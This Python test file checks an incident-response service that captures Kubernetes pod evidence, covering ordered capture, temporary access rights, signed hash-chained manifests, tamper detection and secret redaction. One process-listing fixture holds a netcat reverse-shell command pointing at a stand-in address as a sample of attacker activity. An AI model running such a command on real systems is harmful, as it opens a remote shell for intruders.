"""Evidence is kept before it is gone: through a real API server, whose node is a fake that runs nothing."""

import hashlib
import json
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from uuid import uuid4

import pytest
import pytest_asyncio

from activities import actions, writing
from activities.action import Action, Performed
from activities.adapters.memory import MemoryCluster
from activities.divided import Divided
from activities.ports import PODS, ROLE_BINDINGS, Cluster, Manifest
from deploy.rbac import executor_binding
from signals.captures import CaptureManifest, CaptureOrder
from signals.catalog import load
from signals.decisions import PlannedAction
from signals.errors import NotFound, Refused, Unavailable, Undecodable
from signals.receipts import Captured
from signals.subjects import CAPTURER, CREDENTIAL_FREEZER, REMEDIATION_EXECUTOR
from tests.activities.acting import CASE, action, entity, receipt
from tests.activities.clusters import fresh_namespace, real
from tests.activities.hands import TRUST, Hands, enrolled, hands, signer
from tests.control_plane import ControlPlane
from tests.kubelet import Kubelet, kubelet
from tests.workflows.world import Bucket
from workers.capturing import Capturer
from workers.evidence import Evidence
from workers.keeping import LIMIT, harmless

CAPTURE = load(actions, Action)["capture_evidence"]
PASSWORD = "hunter2-correct-horse"


@dataclass
class Scene:
    """One namespace with a pod, and the executor's way to the capturer."""

    people: Cluster
    executor: Divided
    hands: Hands
    space: str
    pod: Manifest

    def action(self) -> PlannedAction:
        return action("capture_evidence", entity(self.people, self.pod))

    async def capture(self, *, right: bool = True) -> Performed:
        """Capture as the stack does: the right to look, the capture, the right taken back."""
        plan = await CAPTURE.plan(self.executor, self.action(), CASE)
        if right:
            await writing.apply(self.executor, plan)
        assert CAPTURE.perform
        try:
            return await CAPTURE.perform(self.executor, receipt(self.executor, plan))
        finally:
            await writing.revert(self.executor, plan, force=True)

    def kept(self, item: Captured) -> str:
        """Return what is kept of an item, proved by its hash."""
        content = self.hands.evidence.entries[item.name].value
        assert hashlib.sha256(content).hexdigest() == item.sha256
        assert len(content) == item.size
        return content.decode()


def by_name(done: Performed) -> dict[str, Captured]:
    return {item.what: item for item in done.evidence}


async def pod(cluster: Cluster, space: str, node: str = "") -> Manifest:
    containers = [
        {
            "name": "web",
            "image": "example.com/web:1",
            "args": ["--password", PASSWORD],
            "env": [{"name": "DB_PASSWORD", "value": PASSWORD}, {"name": "LOG_LEVEL", "value": "debug"}],
        },
        {"name": "side", "image": "example.com/side:1"},
    ]
    body = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "web-0", "labels": {"app": "web"}},
        "spec": {"containers": containers, **({"nodeName": node} if node else {})},
    }
    return await cluster.create(PODS.ref("web-0", space), body)


@pytest_asyncio.fixture
async def node(control_plane: ControlPlane, tmp_path: Path) -> AsyncIterator[Kubelet]:
    async with kubelet(control_plane, f"fake-{uuid4().hex[:8]}", tmp_path) as fake:
        yield fake


@pytest_asyncio.fixture
async def scene(control_plane: ControlPlane, node: Kubelet, tmp_path: Path) -> AsyncIterator[Scene]:
    async with (
        real(control_plane, tmp_path) as people,
        real(control_plane, tmp_path, REMEDIATION_EXECUTOR) as executor,
        real(control_plane, tmp_path, CREDENTIAL_FREEZER) as freezer,
        real(control_plane, tmp_path, CAPTURER) as capturer,
    ):
        space = await fresh_namespace(people)
        await enrolled(people, [space])
        binding = executor_binding(space)
        await people.create(ROLE_BINDINGS.ref(binding["metadata"]["name"], space), binding)
        mine = hands(freezer, capturer, capturer.workload)
        yield Scene(people, mine.of(executor), mine, space, await pod(people, space, node.node))


@pytest.mark.stack
async def test_everything_that_can_be_had_is_kept_in_the_order_in_which_it_would_be_lost(
    scene: Scene, node: Kubelet
) -> None:
    node.prints = {
        ("web", "ps"): b"UID PID CMD\nroot 7 nc -e /bin/sh 203.0.113.7 4444\n",
        ("side", "sh"): b"1 /side -> /side\n",
        ("web", "cat"): b"  sl  local_address rem_address\n   0: 0100007F:0050 07 71 00 CB:115C\n",
    }
    node.logs = {
        ("web", False): f"2026-01-01T00:00:00Z password={PASSWORD}\n".encode(),
        ("web", True): b"2025-12-31T23:59:59Z crashed\n",
        ("side", False): b"quiet\n",
    }
    done = await scene.capture()
    items = by_name(done)
    assert done.failed == ""
    assert [item.what for item in done.evidence] == [
        "processes of web-0, container web",
        "processes of web-0, container side",
        "connections of web-0",
        "log of web-0, container web",
        "log of web-0, container web, previous run",
        "log of web-0, container side",
        "log of web-0, container side, previous run",
        "pod web-0",
        "events of web-0",
        f"node {node.node} of web-0",
        f"network policies of {scene.space}",
        "manifest of this capture",
    ]
    assert [what for what, item in items.items() if item.failed] == [
        "log of web-0, container side, previous run"
    ]
    assert "not found" in items["log of web-0, container side, previous run"].failed
    assert "nc -e /bin/sh" in scene.kept(items["processes of web-0, container web"])
    assert "/side" in scene.kept(items["processes of web-0, container side"])
    assert "115C" in scene.kept(items["connections of web-0"])
    assert "crashed" in scene.kept(items["log of web-0, container web, previous run"])
    everything = "".join(scene.kept(item) for item in items.values() if item.size)
    assert PASSWORD not in everything
    assert "debug" in scene.kept(items["pod web-0"])
    assert json.loads(scene.kept(items["pod web-0"]))["metadata"]["uid"] == scene.pod["metadata"]["uid"]


@pytest.mark.stack
async def test_the_right_to_look_lasts_as_long_as_the_capture(scene: Scene, node: Kubelet) -> None:
    before = await scene.people.list(ROLE_BINDINGS, scene.space)
    await scene.capture()
    assert await scene.people.list(ROLE_BINDINGS, scene.space) == before
    asked = len(node.asked)
    done = await scene.capture(right=False)
    assert "forbidden" in done.failed
    assert len(node.asked) == asked, "without it the capturer reaches no container"


@pytest.mark.stack
async def test_a_node_that_does_not_answer_is_a_result_and_stops_nothing(scene: Scene, node: Kubelet) -> None:
    await scene.people.patch(
        PODS.ref("web-0", scene.space), [{"op": "add", "path": "/metadata/labels/seen", "value": "x"}]
    )
    node.prints, node.logs = {}, {}
    done = await scene.capture()
    items = by_name(done)
    assert done.failed == "", "the API server's own record is kept"
    assert "executable file not found" in items["processes of web-0, container web"].failed
    assert "executable file not found" in items["connections of web-0"].failed
    assert items["log of web-0, container web"].failed
    assert items["pod web-0"].size


@pytest.mark.stack
async def test_a_log_without_end_is_cut_and_says_so(scene: Scene, node: Kubelet) -> None:
    node.logs = {("web", False): b"spam\n" * LIMIT}
    items = by_name(await scene.capture())
    cut = items[f"log of web-0, container web (cut at {LIMIT // 1024} KiB)"]
    assert cut.size == LIMIT


@pytest.mark.stack
async def test_a_slow_node_takes_no_more_time_than_the_capture_has(scene: Scene, node: Kubelet) -> None:
    scene.hands.capturer._seconds = 1.5
    node.slow = True
    node.prints = {("web", "ps"): b"still here\n"}
    items = by_name(await scene.capture())
    assert "took longer than" in items["log of web-0, container web"].failed
    assert "are over" in items["pod web-0"].failed
    assert items["processes of web-0, container web"].size, "what is lost first was asked first"


# ---- the chain of manifests ------------------------------------------------------------------------------------


@pytest_asyncio.fixture
async def remembered() -> Scene:
    """A scene on a dictionary, whose pods run nothing."""
    memory = MemoryCluster()
    space = await fresh_namespace(memory)
    mine = hands(memory.identity(CREDENTIAL_FREEZER), memory.identity(CAPTURER))
    return Scene(
        memory, mine.of(memory.identity(REMEDIATION_EXECUTOR)), mine, space, await pod(memory, space)
    )


async def chain(scene: Scene) -> list[CaptureManifest]:
    return [one async for one in Evidence(scene.hands.evidence).manifests(CASE.incident, TRUST)]


async def test_each_capture_of_an_incident_names_the_one_before_and_the_receipt_names_it(
    remembered: Scene,
) -> None:
    first, second = await remembered.capture(), await remembered.capture()
    later, earlier = await chain(remembered)
    assert (later.previous, earlier.previous) == (earlier.digest, "")
    assert [one.evidence[-1].sha256 for one in (first, second)] == [earlier.digest, later.digest]
    assert earlier.items == first.evidence[:-1]


async def test_on_a_cluster_in_memory_what_runs_is_a_result_with_the_reason(remembered: Scene) -> None:
    items = by_name(await remembered.capture())
    assert "in memory run nothing" in items["processes of web-0, container web"].failed
    assert "in memory run nothing" in items["log of web-0, container web"].failed
    assert items["pod web-0"].size


async def test_evidence_that_was_changed_taken_out_or_forged_is_found(remembered: Scene) -> None:
    done = await remembered.capture()
    await remembered.capture()
    store, whole = remembered.hands.evidence, dict(remembered.hands.evidence.entries)
    manifest = done.evidence[-1].name

    async def broken(change: str) -> None:
        with pytest.raises((Refused, NotFound), match=change):
            await chain(remembered)

    await store.update(manifest, b"{}", store.entries[manifest].revision)
    await broken("was changed")
    store.entries = dict(whole)
    await store.delete(manifest)
    await broken("no evidence is kept")
    store.entries = dict(whole)
    (last, *_) = await chain(remembered)
    forged = last.model_copy(update={"items": ()})
    name = await Evidence(store).add(CASE.incident, forged.model_copy(update={"previous": last.digest}))
    assert name
    await broken("signature is not capturer's")
    pod_item = by_name(done)["pod web-0"]
    store.entries = dict(whole)
    await store.update(pod_item.name, b"{}", store.entries[pod_item.name].revision)
    with pytest.raises(Refused, match="was changed"):
        await Evidence(store).read(pod_item.name)


async def test_a_store_that_is_full_is_a_result(remembered: Scene) -> None:
    class Full(Bucket):
        async def create(self, key: str, value: bytes) -> int:
            if len(value) > 400 and b'"what"' not in value:
                raise Unavailable("maximum bytes exceeded")
            return await super().create(key, value)

    remembered.hands.capturer._evidence = Evidence(Full())
    items = by_name(await remembered.capture())
    assert items["pod web-0"].failed == "maximum bytes exceeded"


# ---- orders that nobody may give -------------------------------------------------------------------------------


async def test_nobody_but_the_executor_orders_a_capture_and_each_order_once(remembered: Scene) -> None:
    await remembered.capture()
    replayed = remembered.hands.orders[-1]
    with pytest.raises(Refused, match="taken already"):
        await remembered.hands.capturer.answer(replayed)
    order = CaptureOrder.model_validate_json(replayed)
    for agent in ("orchestrator", "liaison", "capturer"):
        forged = signer(agent).seal(order.model_copy(update={"id": agent}))
        with pytest.raises(Refused, match="signature"):
            await remembered.hands.capturer.answer(forged.model_dump_json().encode())
    with pytest.raises(Undecodable):
        await remembered.hands.capturer.answer(b"{}")


async def test_our_own_pods_and_crowds_are_not_looked_into(remembered: Scene) -> None:
    capturer: Capturer = remembered.hands.capturer
    ours = remembered.action().target.model_copy(update={"namespace": "firebreak"})
    items = await capturer._capture([ours, *[remembered.action().target] * 6])
    told = [item.failed for item in items if item.failed]
    assert "it is not a pod that may be looked into" in told
    assert sum("pods are captured at once" in why for why in told) == 2


def test_secrets_are_taken_out_of_objects_and_the_rest_is_kept() -> None:
    given = {
        "metadata": {
            "name": "web",
            "managedFields": [1],
            "annotations": {"kubectl.kubernetes.io/last-applied-configuration": PASSWORD, "note": "fine"},
        },
        "spec": {
            "containers": [
                {
                    "args": ["--password", PASSWORD],
                    "command": ["/web", "--port", "80"],
                    "env": [
                        {"name": "API_TOKEN", "value": PASSWORD},
                        {"name": "TOKEN", "valueFrom": {"secretKeyRef": {"name": "db-token", "key": "t"}}},
                        {"name": "LOG_LEVEL", "value": "debug"},
                    ],
                }
            ]
        },
    }
    kept = json.dumps(harmless(given))
    assert PASSWORD not in kept
    assert "managedFields" not in kept
    for harmless_text in ("/web", "debug", "db-token", "fine", "--port"):
        assert harmless_text in kept
